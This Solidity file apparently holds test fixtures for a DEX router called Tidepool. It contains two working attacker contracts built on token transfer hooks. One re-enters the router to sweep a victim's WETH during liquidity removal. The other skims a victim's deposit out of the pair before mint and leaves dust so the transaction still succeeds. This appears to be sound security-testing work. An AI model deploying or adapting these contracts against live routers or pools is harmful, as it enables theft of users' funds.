// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {ITidepoolPair} from "../../src/interfaces/ITidepoolPair.sol";
import {ITidepoolRouter02} from "../../src/interfaces/ITidepoolRouter02.sol";
import {ITokenHook} from "./HookToken.sol";

interface IToken {
    function approve(address spender, uint256 amount) external returns (bool);
    function transfer(address to, uint256 amount) external returns (bool);
    function mint(address to, uint256 amount) external;
}

/// @title A hostile token's hook that re-enters the router to sweep what the router holds
/// @notice Armed, it fires on the first hook call for a transfer out of the router (the router
///         holds a victim's WETH at that moment in `removeLiquidityETH*`) and calls
///         `swapExactTokensForETHSupportingFeeOnTransferTokens`, which pays out the router's whole
///         WETH balance, with a tiny input of its own along `path`.
contract RouterSweeper is ITokenHook {
    ITidepoolRouter02 public immutable router;
    address[] public path;
    uint256 public amountIn;
    bool public armed;

    constructor(ITidepoolRouter02 router_) {
        router = router_;
    }

    function arm(address[] calldata path_, uint256 amountIn_) external {
        path = path_;
        amountIn = amountIn_;
        armed = true;
        IToken(path_[0]).approve(address(router), type(uint256).max);
    }

    function onTokenTransfer(address from, address, uint256) external {
        if (!armed || from != address(router)) return;
        armed = false;
        router.swapExactTokensForETHSupportingFeeOnTransferTokens(
            amountIn, 0, path, address(this), block.timestamp
        );
    }

    receive() external payable {}
}

/// @title A hostile token's hook that takes a router deposit out of the pair before `mint`
/// @notice Armed, it fires when the hostile token is transferred into `pair` by someone else (the
///         router's `transferFrom` of the victim's deposit, made after the other token's), skims
///         both deposits to itself, and donates `dust` of each token back so that `mint` still
///         mints a non-zero amount and the victim's transaction goes through.
contract DepositSkimmer is ITokenHook {
    ITidepoolPair public immutable pair;
    uint256 public dust;
    bool public armed;

    constructor(ITidepoolPair pair_) {
        pair = pair_;
    }

    function arm(uint256 dust_) external {
        dust = dust_;
        armed = true;
    }

    function onTokenTransfer(address from, address to, uint256) external {
        if (!armed || to != address(pair) || from == address(this)) return;
        armed = false;
        pair.skim(address(this));
        IToken(pair.token0()).transfer(address(pair), dust);
        IToken(pair.token1()).transfer(address(pair), dust);
    }
}
